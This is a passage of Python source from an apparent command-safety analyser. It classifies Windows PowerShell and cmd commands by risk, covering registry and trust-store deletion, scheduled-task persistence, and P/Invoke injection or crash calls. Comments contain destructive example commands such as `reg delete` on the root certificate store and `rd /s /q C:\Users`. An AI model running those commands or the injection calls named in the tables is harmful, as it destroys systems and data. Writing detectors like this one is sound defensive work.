"""Command knowledge for Windows: PowerShell cmdlets and aliases, cmd.exe builtins and tools.

Kept apart so the POSIX tables stay readable; both register into the same
registry, so `git`, `npm`, `docker` … behave the same in every shell.
"""

from __future__ import annotations

import base64
import binascii
import fnmatch
import functools
import importlib
import re
from collections.abc import Iterator, Mapping
from typing import Any

from aintern_ls.safety import persist, remote
from aintern_ls.safety.argv import asks_help
from aintern_ls.safety.context import Cmd, Scope
from aintern_ls.safety.detections import CREDENTIAL_WINDOWS
from aintern_ls.safety.levels import B, C, D, Finding, M, RiskLevel
from aintern_ls.safety.paths import (
    classify_path,
    is_secret,
    security_setting_weakened,
    whole_system,
    write_target,
)
from aintern_ls.safety.registry import HANDLERS, Handler, handles
from aintern_ls.safety.security import security_component, security_label, security_name
from aintern_ls.safety.winpaths import (
    _TRUST_LISTED,
    ONE_TRUSTED_CERT,
    piped_trust_listing,
    protected_unknown_name,
    trust_store_removed,
)
from aintern_ls.safety.words import (
    ORIGIN_DEEP,
    PsArgs,
    Word,
    bind_ps_args,
    command_name,
    fold_powershell,
    names,
    ps_bind,
    split_words,
)
from aintern_ls.safety.wrappers import (
    decoded_readable,
    run_code_from_stdin,
    run_script_file,
    runs_unseen,
    written_code,
    written_text,
)

PS_ALIASES: dict[str, str] = {
    "ls": "get-childitem",
    "dir": "get-childitem",
    "gci": "get-childitem",
    "cat": "get-content",
    "gc": "get-content",
    "type": "get-content",
    "echo": "write-output",
    "write": "write-output",
    "pwd": "get-location",
    "gl": "get-location",
    "cd": "set-location",
    "chdir": "set-location",
    "sl": "set-location",
    "rm": "remove-item",
    "del": "remove-item",
    "erase": "remove-item",
    "ri": "remove-item",
    "rd": "remove-item",
    "rmdir": "remove-item",
    "cp": "copy-item",
    "copy": "copy-item",
    "cpi": "copy-item",
    "mv": "move-item",
    "move": "move-item",
    "mi": "move-item",
    "ren": "rename-item",
    "rni": "rename-item",
    "ni": "new-item",
    "md": "new-item",
    "mkdir": "new-item",
    "iwr": "invoke-webrequest",
    "wget": "invoke-webrequest",
    "curl": "invoke-webrequest",
    "irm": "invoke-restmethod",
    "iex": "invoke-expression",
    "icm": "invoke-command",
    "kill": "stop-process",
    "spps": "stop-process",
    "saps": "start-process",
    "start": "start-process",
    "sc": "set-content",
    "ac": "add-content",
    "clc": "clear-content",
    "sleep": "start-sleep",
    "select": "select-object",
    "where": "where-object",
    "?": "where-object",
    "%": "foreach-object",
    "foreach": "foreach-object",
    "sort": "sort-object",
    "measure": "measure-object",
    "ft": "format-table",
    "fl": "format-list",
    "fw": "format-wide",
    "gps": "get-process",
    "ps": "get-process",
    "gsv": "get-service",
    "spsv": "stop-service",
    "ii": "invoke-item",
    "cls": "clear-host",
    "clear": "clear-host",
    "h": "get-history",
    "history": "get-history",
    "gcm": "get-command",
    "man": "get-help",
    "help": "get-help",
    "sls": "select-string",
    "gi": "get-item",
    "gp": "get-itemproperty",
    "sp": "set-itemproperty",
    "rp": "remove-itemproperty",
    "rv": "remove-variable",
    "gm": "get-member",
    "tee": "tee-object",
    "diff": "compare-object",
    "compare": "compare-object",
    "group": "group-object",
    "sv": "set-variable",
    "set": "set-variable",
    "gv": "get-variable",
    "pushd": "push-location",
    "popd": "pop-location",
    "ogv": "out-gridview",
    "r": "invoke-history",
    "sajb": "start-job",
    "ipmo": "import-module",
    "nal": "new-alias",
    "sal": "set-alias",
    "epal": "export-alias",
    "ise": "powershell_ise",
    "mount": "new-psdrive",
    "ndr": "new-psdrive",
    # WMI/CIM and other built-in aliases detection rules spell out (sig7)
    "gwmi": "get-wmiobject",
    "rwmi": "remove-wmiobject",
    "iwmi": "invoke-wmimethod",
    "swmi": "set-wmiinstance",
    "gcim": "get-ciminstance",
    "rcim": "remove-ciminstance",
    "icim": "invoke-cimmethod",
    "ncim": "new-ciminstance",
    "scim": "set-ciminstance",
    "gcls": "get-cimclass",
    "gdr": "get-psdrive",
    "rdr": "remove-psdrive",
    "sasv": "start-service",
    "gcb": "get-clipboard",
    "scb": "set-clipboard",
    "gin": "get-computerinfo",
    "rvpa": "resolve-path",
    "cvpa": "convert-path",
    "ipcsv": "import-csv",
    "epcsv": "export-csv",
    "si": "set-item",
    "cli": "clear-item",
    "clp": "clear-itemproperty",
    "cpp": "copy-itemproperty",
    "rnp": "rename-itemproperty",
    "nv": "new-variable",
    "clv": "clear-variable",
    "clhy": "clear-history",
    "gjb": "get-job",
    "rjb": "remove-job",
    "etsn": "enter-pssession",
    "nsn": "new-pssession",
}

_REGISTRY = re.compile(r"^(hk(lm|cu|cr|u|cc|ey_[a-z_]+):?|registry::)", re.I)
_PS_REGISTRY = re.compile(r"(?i)^(?:microsoft\.powershell\.core\\)?registry::")


def _ps_params(cmd: Cmd) -> tuple[dict[str, Word | None], list[Word]]:
    """PowerShell `-Name value` / switches, and positional arguments (`words.ps_bind`: a
    `-Name` takes the next argument only when it is one of `_VALUED`)."""
    bound = _ps_bound(cmd)
    return bound.params(), list(bound.positional)


def _ps_bound(cmd: Cmd) -> PsArgs:
    """`cmd`'s arguments bound (`_ps_params`), kept on the `Cmd` with the `args` list they
    were bound from: the rules of one cmdlet ask several times. (Bound by `words.ps_bind`'s
    own binder: its one-answer memory would only cost here.)"""
    args = cmd.args
    held = cmd.ps_bound
    if held is not None and held[0] is args:
        got: PsArgs = held[1]
        return got
    bound = bind_ps_args(args, _ps_takes_value)
    cmd.ps_bound = (args, bound)
    return bound


def _ps_takes_value(name: str) -> bool:
    return name in _VALUED or (len(name) > 1 and "encodedcommand".startswith(name))


_VALUED = frozenset(
    names(
        """
        path literalpath filter include exclude name id scope executionpolicy uri outfile
        destination value filepath argumentlist verb command c file f encodedcommand enc e ec
        computername scriptblock processname credential encoding depth first last pattern
        property type itemtype method body infile group member exclusionpath exclusionprocess
        drive driveletter number disknumber username user workingdirectory wait level l key
        newname ep noprofile windowstyle w stream
        erroraction ea warningaction wa informationaction infa errorvariable ev
        warningvariable wv informationvariable iv outvariable ov outbuffer ob
        pipelinevariable pv progressaction proga
        """
    )
)


def _ps_stdin_script(cmd: Cmd) -> None:
    """`Get-Content p.ps1 | powershell -`: PowerShell runs what it reads. A file the block did
    not write is a script nobody here has read (opaque: critical), as cmd's `type f |
    powershell -` is; known text is judged as code."""
    if cmd.stdin.kind == "file":
        cmd.add(C, "pipe-to-shell", f"pipes a file's unseen text into {cmd.name} as its script")
        return
    run_code_from_stdin(cmd, "powershell")


def _has_param(params: dict[str, Word | None], *prefixes: str) -> bool:
    return any(any(p.startswith(x) for x in prefixes) for p in params)


# PowerShell's session drives: environment variables, aliases, functions and variables.
_SESSION_DRIVE = re.compile(r"(?i)^(env|alias|function|variable):")


# --- registry locations: PSDrives of the Registry provider, a working directory in it -----
# `New-PSDrive -Name R -PSProvider Registry -Root HKEY_LOCAL_MACHINE` makes `R:\SYSTEM`
# the key `HKLM\SYSTEM`; `Set-Location HKLM:\SYSTEM` makes `CurrentControlSet` (relative)
# that key's child. Both live in `scope.env` under these keys (names no shell can spell).
_REG_DRIVE = "\x00regdrive:"
_REG_CWD = "\x00regcwd"
_REG_ANY = "\x00regany"  # set with either: one cheap test before any path is resolved
_DRIVE_PREFIX = re.compile(r"\A([A-Za-z]\w*):(?=[\\/]|\Z)")


def _reg_join(root: str, rest: str) -> str:
    """`hklm\\system` + `..\\software\\x` -> `hklm\\software\\x` (lower case, `\\`)."""
    parts = [p for p in root.split("\\") if p]
    for p in re.split(r"[\\/]+", rest.lower()):
        if p in ("", "."):
            continue
        if p == "..":
            if len(parts) > 1:
                parts.pop()
            continue
        parts.append(p)
    return "\\".join(parts)


def _reg_key(text: str) -> str | None:
    """A provider spelling of a registry key (`HKLM:\\X`, `HKEY_LOCAL_MACHINE\\X`,
    `Registry::HKLM\\X`) in one normal form (`hklm\\x`); None when it is not one."""
    t = text.strip("'\"")
    if not (_REGISTRY.match(t) or _PS_REGISTRY.match(t)):
        return None
    norm = _reg_norm(_PS_REGISTRY.sub("", t))
    m = re.match(r"(hklm|hkcu|hkcr|hku|hkcc)(?:[\\:]|\Z)", norm)
    return _reg_join(m.group(1), norm[m.end() :]) if m is not None else None


def registry_location(scope: Scope, text: str) -> str | None:
    """The registry key a PowerShell path names (`hklm\\system\\x`) through a Registry
    PSDrive or the registry working directory as well as by its own spelling; None for a
    path that is not in the registry (or not known to be)."""
    t = text.strip("'\"")
    if not t or t[0] in "$-~@(" or t.startswith("\\\\"):
        return None
    env = scope.env
    m = _DRIVE_PREFIX.match(t)
    if m is not None:
        root = env.get(_REG_DRIVE + m.group(1).lower())
        if root is not None:
            return _reg_join(root, t[m.end() :])
        return _reg_key(t)
    key = _reg_key(t)
    if key is not None:
        return key
    cwd = env.get(_REG_CWD)
    if cwd is None or t.startswith(("\\", "/")):
        return None
    return _reg_join(cwd, t)


# Under HKLM\SOFTWARE (either view), the branches that hold Windows' own configuration
# rather than one vendor's: Microsoft and its Windows / Windows NT (CurrentVersion) trees,
# and Classes (every file association and COM registration; HKCR's root). Deleting one of
# them whole is system configuration destroyed (blocked), like SYSTEM\CurrentControlSet; a
# vendor's subkey beside them (SOFTWARE\Google) or a key deeper inside (Winlogon, Run:
# corpus.tsv) stays a scoped delete.
_SYSTEM_BRANCH = re.compile(
    r"(?i)\Asoftware(?:\\wow6432node)?\\(?:microsoft(?:\\windows(?: nt)?(?:\\currentversion)?)?"
    r"|classes)\\*\Z"
)


_TRUST_STORE_KEY = re.compile(
    r"(?i)\A(?:\\)?software(?:\\policies)?\\microsoft\\(?:system|enterprise)certificates"
    r"(?:\\(?:root|authroot|ca)(?:\\.*)?)?\\?\Z"
)


def hive_key_deleted(hive: str, key: str) -> tuple[RiskLevel, str, str]:
    """`registry_key_deleted` for a key under `hive` (`hklm`, `hkcu`, `hkcr` …): HKCR is the
    machine's SOFTWARE\\Classes seen from another root (its root deleted is all of it)."""
    if hive == "hkcr":
        return registry_key_deleted(
            True, "software\\classes\\" + key if key else "software\\classes"
        )
    return registry_key_deleted(hive == "hklm", key)


def registry_key_deleted(machine: bool, key: str) -> tuple[RiskLevel, str, str]:
    """Deleting the registry key `key` (normal form without its hive, `system\\x`; `machine`:
    under HKLM) whatever spelled it: Remove-Item, `reg delete`, .NET DeleteSubKeyTree."""
    if machine and boot_registry_key("hklm\\" + key):
        return B, "registry-root", "deletes registry keys Windows needs to boot"
    if machine and key.count("\\") < 1:
        return B, "registry-root", "deletes a whole machine registry hive"
    if not machine and key.strip("\\").lower() in ("", "software"):
        # `Remove-Item HKCU:\* -Recurse`, `HKCU\Software`: every setting of the account
        return B, "registry-root", "deletes a whole user registry hive (every program's settings)"
    if machine and _SYSTEM_BRANCH.match(key):
        return B, "registry-root", "deletes the registry branch that holds Windows' own settings"
    if machine and "certificates" in key.lower() and _TRUST_STORE_KEY.match(key):
        # (n14w) the machine trust stores' registry spelling (`reg delete
        # HKLM\SOFTWARE\Microsoft\SystemCertificates\ROOT /f`): Cert:\LocalMachine\Root
        return (
            B,
            "cert-store-wipe",
            "removes certificates the whole machine trusts (the trust store's registry key)",
        )
    hit = registry_risk("hklm\\" + key)
    if hit is not None and hit[1] == "disable-security":
        return C, "disable-security", f"deleting this key {hit[2][len('changes ') :]}"
    parent, _, last = key.rpartition("\\")
    if machine and re.search(r"[$%!`]", last) and boot_registry_key("hklm\\" + parent):
        # `Services\$svc`: which service or driver goes is only known at run time (a
        # driver the boot needs, a security service): never a mere scoped delete
        return C, "registry-delete", "deletes a boot-critical registry key named at run time"
    return D, "registry-delete", "deletes registry keys"


def registry_value_deleted(key: str) -> tuple[RiskLevel, str, str]:
    """Deleting one value (`key` is normal registry text ending in `\\v name`): a security
    setting deleted falls back to off (critical); a value Windows needs to log on
    (Winlogon's Userinit or Shell, LSA's packages) is blocked; any other value is a scoped
    delete."""
    if "\\" in key and _LOGON_VALUE.search(key) is not None:
        return B, "registry-root", "deletes a registry value Windows needs to log anyone on"
    gone = security_setting_weakened(key, deleted=True)
    if gone is not None:
        return C, "disable-security", gone
    hit = registry_risk(key)
    if hit is not None and hit[1] == "disable-security":
        return hit
    return D, "registry-delete", "deletes a registry value"


# --- the .NET registry API ----------------------------------------------------------------
# `[Microsoft.Win32.Registry]::LocalMachine`, `[RegistryKey]::OpenBaseKey('LocalMachine', …)`,
# `OpenRemoteBaseKey(…)`, a variable holding one, then `.OpenSubKey('X', $true)` /
# `.CreateSubKey('X')` steps and the call that acts: DeleteSubKeyTree / DeleteSubKey /
# DeleteValue / SetValue, judged as Remove-Item / Remove-ItemProperty / Set-ItemProperty of
# the key they reach.
_NET_HIVES = {
    "localmachine": "hklm",
    "currentuser": "hkcu",
    "classesroot": "hkcr",
    "users": "hku",
    "currentconfig": "hkcc",
}
_NET_REG_BASE = re.compile(
    r"(?i)\[\s*(?:microsoft\.win32\.)?registry\s*\]\s*::\s*(localmachine|currentuser|classesroot"
    r"|users|currentconfig)\b"
    r"|\[\s*(?:microsoft\.win32\.)?registrykey\s*\]\s*::\s*open(?:remote)?basekey\s*\(\s*"
    r"(?:\[\s*(?:microsoft\.win32\.)?registryhive\s*\]\s*::\s*)?['\"]?(localmachine|currentuser"
    r"|classesroot|users|currentconfig)\b"
    r"|\$(\w+)(?=\s*\.\s*(?:opensubkey|createsubkey|deletesubkey|deletesubkeytree|deletevalue"
    r"|setvalue)\b)"
)
# The same API from C# compiled by Add-Type (`Registry.LocalMachine.DeleteSubKeyTree("X")`,
# `RegistryKey.OpenBaseKey(RegistryHive.LocalMachine, …)`): the same groups, no variables.
_CS_REG_BASE = re.compile(
    r"(?i)(?<![\w\]:.])(?:microsoft\.win32\.)?registry\s*\.\s*(localmachine|currentuser"
    r"|classesroot|users|currentconfig)\b"
    r"|(?<![\w\]:.])(?:microsoft\.win32\.)?registrykey\s*\.\s*open(?:remote)?basekey\s*\(\s*"
    r"(?:(?:microsoft\.win32\.)?registryhive\s*\.\s*)?(localmachine|currentuser|classesroot"
    r"|users|currentconfig)\b"
    r"|\A(?!)(\w)"
)
_NET_REG_STATIC = re.compile(
    r"(?i)\[\s*(?:microsoft\.win32\.)?registry\s*\]\s*::\s*setvalue\s*\(\s*(?:'([^']*)'|\"([^\"$]*)\")"
)
_NET_REG_STEP = re.compile(r"(?i)\s*\.\s*(\w+)\s*\(\s*(?:'([^']*)'|\"([^\"$`]*)\")?")
_NET_REG_ASSIGN = re.compile(r"\$(\w+)\s*=\s*\Z")
# A RegistryKey the registry provider returns: `(Get-Item HKLM:\SYSTEM)`, `$k = Get-Item
# HKLM:\SOFTWARE` (then `$k.`), `Get-Item HKLM:\SYSTEM | ForEach-Object { $_` (then `.`).
_REG_PATH = (
    r"(['\"]?)(?P<path>(?:microsoft\.powershell\.core\\)?(?:registry::)?"
    r"(?:hk(?:lm|cu|cr|u|cc)|hkey_[a-z_]+):?(?:[\\/][^'\"()|;\s]*)?)\1"
)
_ITEM_BASE = re.compile(
    r"(?i)\(\s*(?:get-item|gi)\s[^()]*\)|(?:get-item|gi)\s[^|]*\|\s*(?:foreach-object|%)\s*\{\s*\$_"
)
_REG_ITEM = re.compile(
    r"(?i)\(\s*(?:get-item|gi)\s+(?:-(?:literal)?path\s+)?" + _REG_PATH + r"(?:\s+-force)?\s*\)"
    r"|\$(?P<var>\w+)\s*=\s*(?:get-item|gi)\s+(?:-(?:literal)?path\s+)?"
    + _REG_PATH.replace("1", "4").replace("path>", "path2>")
    + r"|(?:get-item|gi)\s+(?:-(?:literal)?path\s+)?"
    + _REG_PATH.replace("1", "6").replace("path>", "path3>")
    + r"(?:\s+-force)?\s*\|\s*(?:foreach-object|%)\s*\{\s*\$_"
)


def _close_paren(text: str, i: int) -> int:
    """The index just after the `)` closing the call whose `(` ends before `i`."""
    depth = 1
    n = min(len(text), i + 2000)
    while i < n and depth:
        c = text[i]
        if c == "(":
            depth += 1
        elif c == ")":
            depth -= 1
        elif c in "'\"":
            j = text.find(c, i + 1)
            i = j if j > 0 else n
        i += 1
    return i


# The Task Scheduler's COM API (`New-Object -ComObject Schedule.Service`): a definition
# registered with RegisterTaskDefinition / RegisterTask runs its actions on its triggers.
_COM_TASK_REGISTER = re.compile(r"(?i)\.\s*registertask(?:definition)?\s*\(")
_COM_TASK_ACTION = re.compile(
    r"(?i)\.\s*(path|execute|arguments)\s*=\s*(?:'([^']*)'|\"([^\"$`]*)\")"
)


_TASK_XML_EXEC = re.compile(
    r"(?is)<command>\s*([^<]{1,1000}?)\s*</command>(?:\s*<arguments>\s*([^<]{0,4000}?)\s*"
    r"</arguments>)?"
)


def task_xml_line(xml: str) -> str:
    """The command line a task definition's first `<Exec>` action runs, or ""."""
    m = _TASK_XML_EXEC.search(xml[:20000]) if "ommand>" in xml else None
    if m is None:
        return ""
    line = f"{m.group(1)} {m.group(2) or ''}".strip()
    for esc, ch in (("&quot;", '"'), ("&apos;", "'"), ("&lt;", "<"), ("&gt;", ">"), ("&amp;", "&")):
        line = line.replace(esc, ch)
    return line


def task_action_line(text: str) -> str:
    """The command line a task action's literal `.Path`/`.Execute` and `.Arguments`
    assignments in `text` make (COM `IExecAction`, a CIM task's `Actions[i]`), or ""."""
    low = text.lower()
    if ".path" not in low and ".execute" not in low and ".arguments" not in low:
        return ""
    parts = {"path": "", "arguments": ""}
    for m in _COM_TASK_ACTION.finditer(text[:20000]):
        key = "path" if m.group(1).lower() in ("path", "execute") else "arguments"
        parts[key] = m.group(2) if m.group(2) is not None else m.group(3)
    args = parts["arguments"].strip()
    if not parts["path"] and args:
        # only the arguments rewritten (`$t.Actions[0].Arguments = '/c rd /s /q C:\Users'`):
        # the task's own program is unknown; arguments shaped for cmd or PowerShell are
        # read as what that shell would run (n12w, red team round 12)
        if re.match(r"(?i)/[ck]\s", args):
            return "cmd.exe " + args
        if re.match(
            r"(?i)-(?:c|command|e|ec|enc\w*|nop\w*|noni\w*|w(?:indowstyle)?|exec\w*)\s", args
        ):
            return "powershell.exe " + args
    return f"{parts['path']} {parts['arguments']}".strip() if parts["path"] else ""


def com_scheduled_task(text: str, scope: Scope) -> None:
    """`$f.RegisterTaskDefinition('x', $d, 6, …)` after `$a.Path = 'cmd.exe'`: persistence
    (critical); the action's literal command line is judged too (blocked stays blocked)."""
    reg = _COM_TASK_REGISTER.search(text[:20000])
    if reg is None or "schedule.service" not in text.lower():
        return
    end = _close_paren(text, reg.end())
    scope.add(
        C,
        "persistence-task",
        "registers a scheduled task through the Task Scheduler COM API",
        reg.start(),
        end,
    )
    line = task_action_line(text)
    if line:
        where = Word(line, reg.start(), end)
        for f in scope.nested(line, "cmd", where, -1):
            scope.add(f.level, f.rule, f"the scheduled task runs: {f.reason}", f.start, f.end)


# `Add-Type [-TypeDefinition|-MemberDefinition] SOURCE`: the source as written (a here-string,
# a quoted string or a variable holding one).
_ADD_TYPE = re.compile(
    r"(?is)\badd-type\b(?:\s+-(?!typedefinition|memberdefinition)\w+(?:\s+(?!-|@'|@\"|'|\"|\$)\S+)?)*"
    r"\s+(?:-(?:typedefinition|memberdefinition)\s+)?"
    r"(@'\r?\n.*?\r?\n'@|@\"\r?\n.*?\r?\n\"@|'(?:[^']|'')*'|\"(?:[^\"`]|`.)*\"|\$\w+"
    r"|\((?:[^()]|\([^()]*\))*\))"
)
# C#/VB calls that delete or run: `Directory.Delete(@"C:\x", true)`, `File.Delete("…")`,
# `Process.Start("cmd.exe", "/c …")` (System.IO / System.Diagnostics, written or imported).
_CS_STRING = r"(@\"(?:[^\"]|\"\")*\"|\"(?:[^\"\\]|\\.)*\")"
_CS_DELETE = re.compile(
    r"(?i)\b(directory|file)\s*\.\s*delete\s*\(\s*" + _CS_STRING + r"\s*(?:,\s*(true|false))?"
)
_CS_DELETE_BARE = re.compile(
    r"(?i)\b(directory|file)\s*\.\s*delete\s*\(\s*@?([a-z]:[\\/][^,()\"]*?)\s*(?:,\s*(true|false))?\s*\)"
)
_CS_START = re.compile(
    r"(?i)\bprocess\s*\.\s*start\s*\(\s*" + _CS_STRING + r"\s*(?:,\s*" + _CS_STRING + r")?"
)


def _cs_text(literal: str) -> str:
    """A C# string literal's text (`@"C:\\x"` verbatim, `"C:\\\\x"` with escapes read)."""
    if literal.startswith("@"):
        return literal[2:-1].replace('""', '"')
    return re.sub(
        r"\\(.)", lambda m: {"n": "\n", "t": "\t"}.get(m.group(1), m.group(1)), literal[1:-1]
    )


# (n13w) P/Invoke: `[DllImport("kernel32.dll")] … extern bool DeleteFileW(string p);` in the
# source Add-Type compiles. What the native functions do, by name (A/W suffix dropped).
_PINVOKE_DECL = re.compile(
    r"(?is)dllimport\s*\(\s*@?\"([^\"]{1,80})\"[^\]]{0,300}\]\s*(?:\[[^\]]{0,200}\]\s*)*"
    r"(?:(?:public|private|internal|protected|static|extern|unsafe|shared|declare)\s+)+"
    r"(?:(?:function|sub|auto|ansi|unicode)\s+)*(?:[\w.<>\[\]]+\s+)?(\w+)\s*\("
)
_PINVOKE_KIND = {
    "deletefile": "delete",
    "removedirectory": "delete",
    "movefileex": "move",
    "movefile": "move",
    "movefilewithprogress": "move",
    "copyfile": "copy",
    "copyfileex": "copy",
    "rtladjustprivilege": "privilege",
    "adjusttokenprivileges": "privilege",
    "ntraiseharderror": "crash",
    "zwraiseharderror": "crash",
    "rtlsetprocessiscritical": "crash",
    "ntsetinformationprocess": "crash",
    "initiatesystemshutdownex": "shutdown",
    "initiatesystemshutdown": "shutdown",
    "exitwindowsex": "shutdown",
    "ntshutdownsystem": "shutdown",
    "createremotethread": "inject",
    "writeprocessmemory": "inject",
    "virtualallocex": "inject",
    "ntcreatethreadex": "inject",
    "queueuserapc": "inject",
    "rtlcreateuserthread": "inject",
}
_PS_NULL = frozenset({"$null", "null", "nothing", "[nullstring]::value", "0", "[intptr]::zero"})


def _native_arg(raw: str, env: Mapping[str, str]) -> str | None:
    """A P/Invoke call's argument as text: a literal (C#, VB or PowerShell), a known folder
    path expression, "" for null; None when only known at run time."""
    raw = raw.strip()
    if raw.lower() in _PS_NULL:
        return ""
    if raw[:2] == '@"' or (raw[:1] == '"' and "$" not in raw and "\\\\" in raw):
        return _cs_text(raw)  # C#: `@"C:\x"`, `"C:\\\\x"`
    if raw[:1] == "'" and raw[-1:] == "'":
        return raw[1:-1].replace("''", "'")
    if raw[:1] == '"' and raw[-1:] == '"' and "`" not in raw and "$(" not in raw:
        # `"$env:windir\System32\x.dll"`: known folder variables in an expandable string
        unknown = False

        def known(m: re.Match[str]) -> str:
            nonlocal unknown
            key = m.group(0).lower().replace("{", "").replace("}", "")
            value = PS_KNOWN_VARS.get(key)
            if value is None or value.startswith("$"):
                unknown = True
                return ""
            return value

        text = re.sub(r"\$\{?(?:env:)?[\w()]+\}?", known, raw[1:-1])
        return None if unknown else text
    return ps_eval(raw, env)


def _pinvoke_calls(text: str, source: str, at: int, end: int, scope: Scope) -> None:
    """The native functions `source` declares with DllImport, judged where `text` (the
    PowerShell after Add-Type, and the C# itself) calls them: a file deleted or moved is that
    delete or move; privilege adjusted, the system crashed or code injected: critical."""
    declared = {m.group(2).lower(): m.group(2) for m in _PINVOKE_DECL.finditer(source[:20000])}
    if not declared:
        return
    env = ps_variables(scope)
    where = Word(source, at, end)
    for low, name in declared.items():
        base = low[:-1] if low[-1:] in "aw" and low[:-1] in _PINVOKE_KIND else low
        kind = _PINVOKE_KIND.get(base)
        if kind is None:
            continue
        for body, offset in ((text, 0), (source, -1)):
            for call in re.finditer(r"(?i)(?<![\w])" + re.escape(name) + r"\s*\(", body):
                if offset < 0 and re.search(
                    r"(?i)extern\s+[\w.<>\[\]]+\s+\Z|(?:function|sub)\s+\Z",
                    body[max(0, call.start() - 60) : call.start()],
                ):
                    continue  # the declaration itself
                close = _close_paren(body, call.end())
                from aintern_ls.safety.inline import _split_top

                args = [a for a in _split_top(body[call.end() : close - 1], ",") if a.strip()]
                _native_effect(kind, name, [_native_arg(a, env) for a in args], where, scope)
                break


def _native_effect(kind: str, name: str, args: list[str | None], where: Word, scope: Scope) -> None:
    s0, e0 = where.start, where.end
    if kind in ("privilege", "crash", "inject"):
        what = {
            "privilege": "turns on a system privilege of the process (escalation)",
            "crash": "forces a system crash or makes the process critical to the system",
            "inject": "writes code into or starts a thread in another process (injection)",
        }[kind]
        scope.add(C, "native-call", f"calls the native {name}, which {what}", s0, e0)
        return
    if kind == "shutdown":
        scope.add(D, "shutdown", f"calls the native {name}: the machine stops", s0, e0)
        return
    src = args[0] if args else None
    if src is None or not src:
        scope.add(D, "delete", f"calls the native {name} on a file only known at run time", s0, e0)
        return
    quoted = src.replace("'", "''")
    if kind == "delete" or (kind == "move" and len(args) > 1 and args[1] == ""):
        # `MoveFileEx(path, NULL, MOVEFILE_DELAY_UNTIL_REBOOT)`: deleted at the next boot
        line = f"Remove-Item -Force -LiteralPath '{quoted}'"
    elif len(args) > 1 and args[1]:
        dst = (args[1] or "").replace("'", "''")
        verb = "Move-Item" if kind == "move" else "Copy-Item"
        line = f"{verb} -Force -LiteralPath '{quoted}' -Destination '{dst}'"
    else:
        scope.add(D, "delete", f"calls the native {name} on {src}", s0, e0)
        return
    for f in scope.nested(line, "powershell", where, -1):
        scope.add(f.level, f.rule, f"the native {name} call: {f.reason}", f.start, f.end)


# (n13w) .NET lookups of known folders in C#/VB source, as the literal they give
_CS_ENV = re.compile(
    r"(?i)(?:system\.)?environment\s*\.\s*(?:getenvironmentvariable\s*\(\s*\"(\w+(?:\(x86\))?)\"\s*\)"
    r"|getfolderpath\s*\(\s*(?:(?:system\.)?environment\s*\.\s*)?specialfolder\s*\.\s*(\w+)\s*\)"
    r"|(systemdirectory)\b)"
)
_SPECIAL_FOLDERS = {
    "windows": "C:\\Windows",
    "system": "C:\\Windows\\System32",
    "systemx86": "C:\\Windows\\SysWOW64",
    "userprofile": "C:\\Users\\user",
    "programfiles": "C:\\Program Files",
    "programfilesx86": "C:\\Program Files (x86)",
    "commonapplicationdata": "C:\\ProgramData",
    "applicationdata": "C:\\Users\\user\\AppData\\Roaming",
    "localapplicationdata": "C:\\Users\\user\\AppData\\Local",
    "systemdirectory": "C:\\Windows\\System32",
}
_CS_CONCAT = re.compile(
    r'(@"(?:[^"]|"")*"|"(?:[^"\\]|\\.)*")\s*\+\s*(@"(?:[^"]|"")*"|"(?:[^"\\]|\\.)*")'
)
_CS_COMBINE = re.compile(
    r'(?i)(?:system\.io\.)?path\s*\.\s*combine\s*\(\s*(@"(?:[^"]|"")*"|"(?:[^"\\]|\\.)*")\s*,'
    r'\s*(@"(?:[^"]|"")*"|"(?:[^"\\]|\\.)*")\s*\)'
)


# (f19) `foreach (var d in Directory.GetDirectories(@"C:\Users"))` (VB: `For Each d In
# Directory.GetFiles("…")`): the loop variable is each entry of that folder.
_CS_EACH = re.compile(
    r"(?i)\bfor\s*each\s*\(?\s*(?:var\s+|string\s+|dim\s+)?(\w{1,64})(?:\s+as\s+\w+)?\s+in\s+"
    r"(?:system\s*\.\s*io\s*\.\s*)?directory\s*\.\s*(?:get|enumerate)"
    r"(?:directories|files|filesystementries)\s*\(\s*(@?\"[^\"\n]{0,400}\")"
)


def _cs_listed_items(source: str) -> str:
    """`Directory.Delete(d, true)` inside a loop over `Directory.GetDirectories(@"C:\\X")`
    read as the delete of every entry (`@"C:\\X\\*"`)."""
    if "each" not in source.lower():
        return source
    for m in [*_CS_EACH.finditer(source[:20000])][:4]:
        folder = m.group(2)
        literal = folder[:-1].rstrip("\\/") + ("\\*" if folder.startswith("@") else "\\\\*") + '"'
        call = re.compile(
            r"(?i)(\b(?:directory|file)\s*\.\s*delete\s*\(\s*)" + re.escape(m.group(1)) + r"\b"
        )
        source = call.sub(r"\g<1>" + literal.replace("\\", "\\\\"), source)
    return source


def _cs_fold(source: str) -> str:
    """C#/VB source with .NET folder lookups (`Environment.GetEnvironmentVariable("windir")`,
    `Environment.GetFolderPath(Environment.SpecialFolder.System)`) made literals, and
    literal concatenations and `Path.Combine` of two literals joined."""
    low = source.lower()
    if "environment" not in low and "combine" not in low and '" +' not in source:
        return source

    def env(m: re.Match[str]) -> str:
        if m.group(1):
            value = PS_KNOWN_VARS.get("$env:" + m.group(1).lower())
            if value is None or value.startswith("$"):
                return m.group(0)
            value = value.replace("~", "C:\\Users\\user", 1) if value[:1] == "~" else value
        else:
            value = _SPECIAL_FOLDERS.get((m.group(2) or m.group(3) or "").lower(), "")
            if not value:
                return m.group(0)
        return '@"' + value + '"'

    def lit(a: str, b: str, sep: str) -> str:
        left, right = _cs_text(a), _cs_text(b)
        joined = left.rstrip("\\") + "\\" + right.lstrip("\\") if sep else left + right
        return '@"' + joined.replace('"', '""') + '"'

    out = _CS_ENV.sub(env, source[:20000])
    for _ in range(4):
        folded = _CS_COMBINE.sub(lambda m: lit(m.group(1), m.group(2), "\\"), out)
        folded = _CS_CONCAT.sub(lambda m: lit(m.group(1), m.group(2), ""), folded)
        if folded == out:
            break
        out = folded
    return out


def dotnet_effects(source: str) -> str:
    """What C#/VB source does that the analyser reads, as command lines both cmd and
    PowerShell run: its file and folder deletes (`Directory.Delete(@"C:\\x", true)`) and the
    programs it starts (`Process.Start("cmd.exe", "/c …")`)."""
    lines: list[str] = []
    source = _cs_listed_items(_cs_fold(source))
    deletes = [*_CS_DELETE.finditer(source[:20000])]
    if not deletes and "delete" in source.lower():
        # (cmd's `echo` as the analyser keeps it loses the quotes: `Delete(@C:\x, true)`)
        deletes = [*_CS_DELETE_BARE.finditer(source[:20000])]
    for d in deletes:
        raw = d.group(2)
        path = _cs_text(raw) if raw[:1] in '@"' else raw
        path = path.replace("'", "''").replace('"', "")
        deep = d.group(1).lower() == "directory" and (d.group(3) or "").lower() == "true"
        flags = " -Force" + (" -Recurse" if deep else "")
